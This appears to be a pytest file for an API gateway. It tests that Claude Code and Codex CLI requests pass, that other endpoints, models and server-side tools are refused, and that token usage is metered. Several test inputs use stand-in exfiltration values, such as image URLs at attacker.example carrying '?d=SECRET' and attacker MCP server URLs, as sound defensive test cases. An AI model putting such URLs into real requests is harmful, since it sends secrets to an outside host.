"""The Anthropic and OpenAI providers' route tables, request allowlists and meters
(gateway/providers/anthropic.py, openai.py): what Claude Code and Codex CLI send passes;
every other path, model and server-side tool is refused with a message; usage is read
from each API's JSON and SSE the way it reports it."""

from __future__ import annotations

import json
from typing import Any

import pytest

from gateway.providers import Refused
from gateway.providers.anthropic import AnthropicProvider
from gateway.providers.openai import OpenAIProvider, duration
from gateway.usage import Usage

ANTHROPIC = AnthropicProvider(default_output_tokens=1000)
OPENAI = OpenAIProvider(default_output_tokens=1000)
CLAUDE = "claude-sonnet-4-5"
GPT = "gpt-5-codex"

# What Claude Code 2.1 sends (tests/fakes/AGENT_CLI_NOTES.md), a tool round trip in.
CLAUDE_BODY: dict[str, Any] = {
    "model": CLAUDE,
    "max_tokens": 32000,
    "stream": True,
    "system": [
        {"type": "text", "text": "x-anthropic-billing-header: cc_version=2.1"},
        {"type": "text", "text": "You are Claude Code.", "cache_control": {"type": "ephemeral"}},
    ],
    "messages": [
        {
            "role": "user",
            "content": [{"type": "text", "text": "What is this?", "cache_control": {"type": "ephemeral"}}],
        },
        {
            "role": "assistant",
            "content": [
                {"type": "thinking", "thinking": "...", "signature": "c2ln"},
                {"type": "tool_use", "id": "toolu_1", "name": "Read", "input": {"file_path": "/workspace/README.md"}},
            ],
        },
        {
            "role": "user",
            "content": [
                {"type": "tool_result", "tool_use_id": "toolu_1", "content": "1\thello"},
                {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": "iVBORw0KGgo="}},
            ],
        },
    ],
    "tools": [
        {"name": "Read", "description": "Reads a file", "input_schema": {"type": "object"}},
        {"name": "DeferredToolPlaceholder", "description": "x", "input_schema": {}, "defer_loading": True},
    ],
    "metadata": {"user_id": '{"device_id":"abc"}'},
    "thinking": {"type": "enabled", "budget_tokens": 31999, "display": "updates"},
    "context_management": {"edits": [{"type": "clear_thinking_20251015", "keep": "all"}]},
}
# What Codex 0.171 sends (tests/fakes/AGENT_CLI_NOTES.md), a tool round trip in.
CODEX_BODY: dict[str, Any] = {
    "model": GPT,
    "stream": True,
    "store": False,
    "tool_choice": "auto",
    "parallel_tool_calls": True,
    "reasoning": {"summary": "auto"},
    "include": ["reasoning.encrypted_content"],
    "prompt_cache_key": "k",
    "client_metadata": {"turn_id": "t"},
    "instructions": "You are Codex.",
    "input": [
        {"type": "message", "role": "developer", "content": [{"type": "input_text", "text": "rules"}]},
        {"type": "message", "id": "msg_1", "role": "user", "content": [{"type": "input_text", "text": "What?"}]},
        {"type": "reasoning", "summary": [], "encrypted_content": "gAAA"},
        {"type": "function_call", "call_id": "call_1", "name": "exec_command", "arguments": '{"cmd":"ls"}'},
        {"type": "function_call_output", "id": "fco_1", "call_id": "call_1", "output": "README.md"},
    ],
    "tools": [
        {
            "type": "function",
            "name": "exec_command",
            "description": "Runs",
            "strict": False,
            "parameters": {"type": "object"},
        },
        {
            "type": "namespace",
            "name": "multi_agent_v1",
            "description": "agents",
            "tools": [{"type": "function", "name": "spawn", "parameters": {}}],
        },
    ],
}
CHAT_BODY: dict[str, Any] = {
    "model": GPT,
    "messages": [{"role": "system", "content": "Sort."}, {"role": "user", "content": "hi"}],
    "response_format": {"type": "json_schema", "json_schema": {"name": "v", "schema": {}}},
    "max_tokens": 200,
}


def admit(
    provider: Any, body: Any, path: str, model: str, query: list[tuple[str, str]] | None = None, method: str = "POST"
) -> Any:
    raw = body if isinstance(body, bytes) else json.dumps(body).encode()
    return provider.admit(
        method,
        path,
        query or [],
        {"anthropic-version": "2023-06-01", "x-api-key": "tok", "authorization": "Bearer tok"},
        raw,
        model,
    )


def refused(provider: Any, body: Any, path: str, model: str, **kw: Any) -> Refused:
    with pytest.raises(Refused) as caught:
        admit(provider, body, path, model, **kw)
    return caught.value


def test_what_claude_code_sends_passes_unchanged_with_only_allowlisted_headers() -> None:
    call = admit(ANTHROPIC, CLAUDE_BODY, "/v1/messages", CLAUDE, [("beta", "true")])
    assert json.loads(call.body) == CLAUDE_BODY and call.path == "/v1/messages" and call.metered
    assert call.query == (("beta", "true"),) and call.output_tokens == 32000
    assert dict(call.headers) == {"anthropic-version": "2023-06-01", "content-type": "application/json"}
    count = admit(
        ANTHROPIC, {"model": CLAUDE, "messages": CLAUDE_BODY["messages"]}, "/v1/messages/count_tokens", CLAUDE
    )
    assert not count.metered


@pytest.mark.parametrize(
    ("change", "says"),
    [
        ({"tools": [{"type": "web_search_20250305", "name": "web_search"}]}, "tools[0]"),
        ({"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]}, "tools[0]"),
        ({"tools": [{"type": "code_execution_20250825", "name": "code_execution"}]}, "tools[0]"),
        ({"mcp_servers": [{"type": "url", "url": "https://attacker.example/mcp", "name": "x"}]}, "`mcp_servers`"),
        ({"container": "container_1"}, "`container`"),
        (
            {
                "messages": [
                    {
                        "role": "user",
                        "content": [
                            {"type": "image", "source": {"type": "url", "url": "https://attacker.example/?d=SECRET"}}
                        ],
                    }
                ]
            },
            "messages[0].content[0]",
        ),
        (
            {
                "messages": [
                    {"role": "user", "content": [{"type": "document", "source": {"type": "file", "file_id": "file_1"}}]}
                ]
            },
            "messages[0].content[0]",
        ),
        ({"service_tier": "priority"}, "service_tier"),
    ],
)
def test_anthropic_server_side_tools_and_outside_content_are_refused(change: dict[str, Any], says: str) -> None:
    error = refused(ANTHROPIC, {**CLAUDE_BODY, **change}, "/v1/messages", CLAUDE)
    assert error.status == 400 and says in str(error), str(error)


def test_anthropic_other_paths_models_and_queries_are_refused() -> None:
    for path in ("/v1/files", "/v1/models", "/v1/messages/batches", "/v1/complete", "/api/hello", "/v1/messages/"):
        assert refused(ANTHROPIC, CLAUDE_BODY, path, CLAUDE).status == 403
    assert refused(ANTHROPIC, CLAUDE_BODY, "/v1/messages", CLAUDE, method="GET").status == 403
    other = refused(ANTHROPIC, {**CLAUDE_BODY, "model": "claude-opus-4-5"}, "/v1/messages", CLAUDE)
    assert other.status == 403 and "only the model claude-sonnet-4-5" in str(other)
    assert refused(ANTHROPIC, CLAUDE_BODY, "/v1/messages", CLAUDE, query=[("beta", "true"), ("x", "1")]).status == 400
    assert "twice" in str(refused(ANTHROPIC, b'{"model":"a","model":"claude-sonnet-4-5"}', "/v1/messages", CLAUDE))


def test_what_codex_sends_passes_and_chat_streams_are_asked_for_usage() -> None:
    call = admit(OPENAI, CODEX_BODY, "/v1/responses", GPT)
    assert json.loads(call.body) == CODEX_BODY and call.path == "/responses" and call.output_tokens == 1000
    chat = admit(OPENAI, {**CHAT_BODY, "stream": True}, "/v1/chat/completions", GPT)
    assert json.loads(chat.body)["stream_options"] == {"include_usage": True} and chat.output_tokens == 200
    assert chat.path == "/chat/completions"


@pytest.mark.parametrize(
    ("change", "says"),
    [
        ({"tools": [{"type": "web_search"}]}, "tools[0]"),
        ({"tools": [{"type": "web_search_preview"}]}, "tools[0]"),
        ({"tools": [{"type": "file_search", "vector_store_ids": ["vs_1"]}]}, "tools[0]"),
        ({"tools": [{"type": "code_interpreter", "container": {"type": "auto"}}]}, "tools[0]"),
        ({"tools": [{"type": "mcp", "server_url": "https://attacker.example/mcp", "server_label": "x"}]}, "tools[0]"),
        ({"tools": [{"type": "image_generation"}]}, "tools[0]"),
        ({"store": True}, "store"),
        ({"previous_response_id": "resp_1"}, "`previous_response_id`"),
        ({"include": ["file_search_call.results"]}, "include[0]"),
        (
            {
                "input": [
                    {
                        "type": "message",
                        "role": "user",
                        "content": [{"type": "input_image", "image_url": "https://attacker.example/?d=SECRET"}],
                    }
                ]
            },
            "input[0]",
        ),
        (
            {"input": [{"type": "message", "role": "user", "content": [{"type": "input_file", "file_id": "f"}]}]},
            "input[0]",
        ),
    ],
)
def test_openai_server_side_tools_and_stored_content_are_refused(change: dict[str, Any], says: str) -> None:
    error = refused(OPENAI, {**CODEX_BODY, **change}, "/v1/responses", GPT)
    assert error.status == 400 and says in str(error), str(error)


def test_openai_other_paths_models_and_chat_tools_are_refused() -> None:
    for path in (
        "/v1/files",
        "/v1/models",
        "/v1/embeddings",
        "/v1/images/generations",
        "/v1/responses/resp_1",
        "/v1/audio/speech",
        "/responses",
    ):
        assert refused(OPENAI, CODEX_BODY, path, GPT).status == 403, path
    assert "only the model gpt-5-codex" in str(refused(OPENAI, {**CODEX_BODY, "model": "gpt-5"}, "/v1/responses", GPT))
    assert refused(OPENAI, {**CHAT_BODY, "web_search_options": {}}, "/v1/chat/completions", GPT).status == 400
    assert refused(OPENAI, {**CHAT_BODY, "tools": [{"type": "web_search"}]}, "/v1/chat/completions", GPT).status == 400
    assert refused(OPENAI, CODEX_BODY, "/v1/responses", GPT, query=[("api-version", "1")]).status == 400


def sse(*events: dict[str, Any]) -> bytes:
    return b"".join(f"event: {e.get('type')}\ndata: {json.dumps(e)}\n\n".encode() for e in events) + b"data: [DONE]\n\n"


def metered(provider: Any, data: bytes, content_type: str) -> Usage | None:
    tracker = provider.usage_tracker(content_type)
    for i in range(0, len(data), 5):  # split mid-line, as TCP may
        tracker.feed(data[i : i + 5])
    return tracker.usage()


def test_anthropic_usage_is_input_from_message_start_and_the_last_output_count() -> None:
    data = sse(
        {
            "type": "message_start",
            "message": {
                "usage": {
                    "input_tokens": 100,
                    "cache_creation_input_tokens": 20,
                    "cache_read_input_tokens": 30,
                    "output_tokens": 1,
                }
            },
        },
        {"type": "content_block_delta", "delta": {"type": "text_delta", "text": "hi"}},
        {"type": "message_delta", "usage": {"output_tokens": 7}},
        {"type": "message_delta", "usage": {"output_tokens": 12}},
    )
    assert metered(ANTHROPIC, data, "text/event-stream") == Usage(prompt=150, candidates=12, cached=30, total=162)
    whole = json.dumps({"type": "message", "usage": {"input_tokens": 5, "output_tokens": 3}}).encode()
    assert metered(ANTHROPIC, whole, "application/json") == Usage(prompt=5, candidates=3, total=8)


def test_openai_usage_from_responses_and_chat_streams_and_bodies() -> None:
    responses = sse(
        {"type": "response.created", "response": {"usage": None}},
        {"type": "response.output_text.delta", "delta": "hi"},
        {
            "type": "response.completed",
            "response": {
                "usage": {
                    "input_tokens": 50,
                    "input_tokens_details": {"cached_tokens": 10},
                    "output_tokens": 20,
                    "output_tokens_details": {"reasoning_tokens": 5},
                    "total_tokens": 70,
                }
            },
        },
    )
    assert metered(OPENAI, responses, "text/event-stream") == Usage(
        prompt=50, candidates=15, thoughts=5, cached=10, total=70
    )
    chat = sse(
        {"choices": [{"delta": {"content": "hi"}}]},
        {"choices": [], "usage": {"prompt_tokens": 9, "completion_tokens": 4, "total_tokens": 13}},
    )
    assert metered(OPENAI, chat, "text/event-stream") == Usage(prompt=9, candidates=4, total=13)
    assert metered(OPENAI, b'{"usage": {"prompt_tokens": 2, "completion_tokens": 1}}', "application/json") == Usage(
        prompt=2, candidates=1, total=3
    )


def test_429_advice_from_each_providers_headers() -> None:
    assert ANTHROPIC.upstream_error(b"{}", {"retry-after": "3"}).retry_delay == 3
    assert OPENAI.upstream_error(b"{}", {"retry-after-ms": "250"}).retry_delay == 0.25
    assert OPENAI.upstream_error(b"{}", {"x-ratelimit-reset-requests": "6m0s"}).retry_delay == 360
    assert duration("20ms") == 0.02 and duration("1.5s") == 1.5 and duration("soon") is None
    assert ANTHROPIC.upstream_error(b"{}", {}).retry_delay is None
